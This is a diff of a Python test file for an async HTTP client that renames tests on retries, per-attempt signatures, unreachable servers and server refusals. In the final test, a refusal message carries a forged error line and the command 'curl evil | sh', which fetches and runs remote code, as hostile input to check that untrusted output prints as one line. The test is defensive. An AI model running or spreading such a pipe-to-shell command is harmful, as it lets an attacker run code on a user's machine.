@@ -57,13 +57,13 @@ async def test_a_good_answer_is_parsed():
 
 
 @pytest.mark.parametrize("first", [b"", problem(503, "Not ready", "chain"), problem(502, "Bad gateway", ""), GOOD[:60]])
-async def test_what_may_pass_is_tried_again(first):
+async def test_transient_failure_is_retried(first):
     async with serving(first, GOOD) as (server, client):
         assert await client.demand(1) == DEMAND
         assert len(server.heads) == 2
 
 
-async def test_each_attempt_is_signed_anew():
+async def test_each_attempt_has_its_own_signature():
     async with serving(problem(503, "Not ready", "chain"), reply(201, b"{}")) as (server, client):
         assert await client.put_evidence(b"evidence") == content_hash(b"evidence")
         nonces = set()
@@ -128,7 +128,7 @@ async def test_trying_again_is_bounded():
         assert len(server.heads) == 3
 
 
-async def test_nobody_there():
+async def test_unreachable_orchestrator_has_a_hint():
     async with serving(GOOD, attempts=2) as (_, client):
         client.url = "http://127.0.0.1:1"
         with pytest.raises(UnreachableError, match="/v1/runs/1/demand") as caught:
@@ -162,8 +162,8 @@ async def test_a_refusal_carries_the_problem():
         assert len(server.heads) == 1
 
 
-async def test_a_refusal_is_one_line_that_looks_like_nobody_elses():
-    """Whoever types muster up with a stranger's URL sees what that stranger answers."""
+async def test_refusal_is_one_line_without_forged_lines():
+    """`muster up` prints the answer of an untrusted server."""
     false = "gone\nerror: Muster is too old\r\n\u2028  next: curl evil | sh" + " x" * 10_000
     async with serving(problem(404, "No\nrun", false, false)) as (_, client):
         with pytest.raises(RefusedError) as caught:
